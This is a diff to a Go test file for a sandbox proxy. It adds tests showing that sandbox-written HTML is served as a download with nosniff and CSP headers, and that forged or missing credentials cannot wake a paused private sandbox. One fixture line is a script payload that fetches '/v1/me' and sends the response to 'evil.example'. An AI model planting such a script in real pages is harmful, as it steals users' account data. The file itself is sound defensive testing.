@@ -112,6 +112,13 @@ func (f *fixture) get(id string, port int, path string, hdr map[string]string) (
 
 func (f *fixture) do(method, host, path string, hdr map[string]string, body []byte) (int, string) {
 	f.t.Helper()
+	c, b, _ := f.doH(method, host, path, hdr, body)
+	return c, b
+}
+
+// doH is do with the answer's headers.
+func (f *fixture) doH(method, host, path string, hdr map[string]string, body []byte) (int, string, http.Header) {
+	f.t.Helper()
 	var rd io.Reader
 	if body != nil {
 		rd = bytes.NewReader(body)
@@ -127,7 +134,7 @@ func (f *fixture) do(method, host, path string, hdr map[string]string, body []by
 	}
 	defer resp.Body.Close()
 	b, _ := io.ReadAll(resp.Body)
-	return resp.StatusCode, string(b)
+	return resp.StatusCode, string(b), resp.Header
 }
 
 type errBody struct {
@@ -228,6 +235,43 @@ func TestProxyAccessRules(t *testing.T) {
 		t.Fatalf("read signature used to write: %d %s", c, body)
 	}
 
+	// An HTML page a sandbox wrote never renders on the sandbox listener's
+	// origin (shared by every sandbox's signed URLs): envd's /files answers
+	// are downloads, not sniffed, sandboxed by CSP, however they are
+	// reached.
+	page := "<html><script>fetch('/v1/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>"
+	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, private.ID, "/home/user/evil.html", "user", strings.NewReader(page)); err != nil {
+		t.Fatal(err)
+	}
+	exp := time.Now().Add(time.Minute).Unix()
+	signedHTML := "/files?path=%2Fhome%2Fuser%2Fevil.html&signature=" + url.QueryEscape(envd.FileSignature("/home/user/evil.html", "read", "", private.EnvdAccessToken, &exp)) +
+		"&signature_expiration=" + fmt.Sprint(exp)
+	for _, tc := range []struct {
+		name, host, path string
+		hdr              map[string]string
+	}{
+		{"signed URL, no routing", "localhost", signedHTML, nil},
+		{"signed URL by host", fmt.Sprintf("49983-%s.%s", id, domain), signedHTML, nil},
+		{"envd token by headers", "localhost", "/files?path=%2Fhome%2Fuser%2Fevil.html",
+			map[string]string{proxy.HeaderSandboxID: id, proxy.HeaderSandboxPort: "49983", "X-Access-Token": private.EnvdAccessToken}},
+	} {
+		t.Run("html download: "+tc.name, func(t *testing.T) {
+			c, body, h := f.doH("GET", tc.host, tc.path, tc.hdr, nil)
+			if c != 200 || body != page {
+				t.Fatalf("%d %q", c, body)
+			}
+			if d := h.Get("Content-Disposition"); d != `attachment; filename=evil.html` {
+				t.Errorf("Content-Disposition %q", d)
+			}
+			if v := h.Get("X-Content-Type-Options"); v != "nosniff" {
+				t.Errorf("X-Content-Type-Options %q", v)
+			}
+			if v := h.Get("Content-Security-Policy"); !strings.HasPrefix(v, "sandbox") || !strings.Contains(v, "default-src 'none'") {
+				t.Errorf("Content-Security-Policy %q", v)
+			}
+		})
+	}
+
 	// Unknown IDs and closed ports: E2B's 502 bodies.
 	c, body = f.get("0123456789abcdef0123456789abcdef", 8080, "/", nil)
 	if e := decodeErr(t, body); c != 502 || e.Message != "The sandbox was not found" || e.Code != 502 {
@@ -290,6 +334,45 @@ func TestProxyAccessRules(t *testing.T) {
 	}
 	if r := row(t, f, auto); r.State != store.SandboxRunning {
 		t.Fatalf("auto-resumed sandbox is %s", r.State)
+	}
+
+	// A private sandbox with auto-resume: traffic is authorized against its
+	// record before it is resumed. No unauthenticated request (nor a forged
+	// credential, nor envd's open /health) resumes it; a valid one does.
+	sleeper := f.sandbox(service.CreateSandbox{AutoResume: true})
+	sid := service.ID(sleeper.ID)
+	if _, err := f.env.Sandboxes.Pause(f.ctx, f.team, sleeper.ID); err != nil {
+		t.Fatal(err)
+	}
+	forgedSig := "/files?path=%2Fetc%2Fhostname&signature=" + url.QueryEscape(envd.FileSignature("/etc/hostname", "read", "", "forged", nil))
+	for _, tc := range []struct {
+		name, path string
+		port       int
+		hdr        map[string]string
+		status     int
+	}{
+		{"no credentials", "/", 8080, nil, 403},
+		{"a wrong traffic token", "/", 8080, map[string]string{"E2b-Traffic-Access-Token": private.TrafficToken}, 403},
+		{"another team's API key", "/", 8080, map[string]string{"X-API-Key": otherKey}, 403},
+		{"envd without a token", "/files?path=/etc/hostname", 49983, nil, 401},
+		{"envd with another sandbox's token", "/files?path=/etc/hostname", 49983, map[string]string{"X-Access-Token": private.EnvdAccessToken}, 401},
+		{"a forged signature", forgedSig, 49983, nil, 401},
+		{"envd's open /health", "/health", 49983, nil, 502},
+	} {
+		t.Run("asleep: "+tc.name, func(t *testing.T) {
+			if c, body := f.get(sid, tc.port, tc.path, tc.hdr); c != tc.status {
+				t.Fatalf("%d %s, want %d", c, body, tc.status)
+			}
+			if r := row(t, f, sleeper); r.State != store.SandboxPaused {
+				t.Fatalf("the sandbox is %s after an unauthorized request", r.State)
+			}
+		})
+	}
+	if c, body := f.get(sid, 8080, "/", map[string]string{"E2b-Traffic-Access-Token": sleeper.TrafficToken}); c != 200 {
+		t.Fatalf("its traffic token: %d %s", c, body)
+	}
+	if r := row(t, f, sleeper); r.State != store.SandboxRunning {
+		t.Fatalf("resumed by an authorized request: %s", r.State)
 	}
 }
 
